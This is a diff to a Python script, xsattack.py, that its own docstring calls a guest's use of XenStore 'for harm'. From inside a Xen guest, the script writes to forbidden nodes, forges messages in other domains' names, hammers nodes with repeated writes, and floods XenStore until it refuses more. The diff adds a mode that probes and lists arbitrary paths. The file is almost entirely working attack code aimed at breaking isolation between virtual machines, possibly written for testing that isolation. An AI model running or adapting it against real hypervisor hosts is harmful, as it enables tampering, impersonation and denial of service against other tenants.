@@ -3,7 +3,8 @@
 """A guest's part of XenStore, used for harm.
 
 usage: xsattack.py forbidden VICTIM OTHER       writes where it must not; prints what worked
-       xsattack.py others VICTIM OTHER          messages in others' names; they stay
+       xsattack.py curious PATH ...             reads and lists there; prints what worked
+       xsattack.py others VICTIM OTHER NUMBER   one of several messages in others' names; it stays
        xsattack.py rewrite SECONDS VICTIM       the same few nodes, over and over; prints how many writes
        xsattack.py fill                         nodes until XenStore refuses; prints how many
        xsattack.py clean
@@ -35,15 +36,23 @@ def forbidden(victim, other):
     store.write(mac, '00:16:3e:aa:bb:cc')  # the frontend's own directory is ours
 
 
-def others(victim, other):
+def curious(*paths):
+    for path in paths:
+        for look in (store.read, store.directory):
+            try:
+                print(path, look.__name__, look(path))
+            except OSError:
+                pass
+
+
+def others(victim, other, number):
     """Well-formed, but for links, domains and epochs that are not ours."""
     me, it, third = epoch(), victims_epoch(victim), victims_epoch(other)
-    for name, sender, receiver in ((f'{victim}-0-0', third, it), (f'{victim}-0-0', it, it), (f'{victim}-0-0', me, third),
-                                   (f'{victim}-0-1', me, it), (f'{victim}-7-0', me, it), (f'{other}-0-0', it, third),
-                                   (f'{other}-0-0', third, it), ('0-0-0', me, it), (f'{store.read("domid")}-0-0', me, me),
-                                   ('32751-0-0', me, it)):
-        store.write(f'{OUTBOX}/to/{name}', ACCEPTED % (attempt(), sender, receiver))
-        time.sleep(0.1)
+    name, sender, receiver = ((f'{victim}-0-0', third, it), (f'{victim}-0-0', it, it), (f'{victim}-0-0', me, third),
+                              (f'{victim}-0-1', me, it), (f'{victim}-7-0', me, it), (f'{other}-0-0', it, third),
+                              (f'{other}-0-0', third, it), ('0-0-0', me, it), (f'{store.read("domid")}-0-0', me, me),
+                              ('32751-0-0', me, it))[int(number)]
+    store.write(f'{OUTBOX}/to/{name}', ACCEPTED % (attempt(), sender, receiver))
 
 
 def rewrite(seconds, victim):
@@ -98,4 +107,4 @@ def clean():
     store.remove(OUTBOX)
 
 
-{f.__name__: f for f in (forbidden, others, rewrite, fill, clean)}[sys.argv[1]](*sys.argv[2:])
+{f.__name__: f for f in (forbidden, curious, others, rewrite, fill, clean)}[sys.argv[1]](*sys.argv[2:])
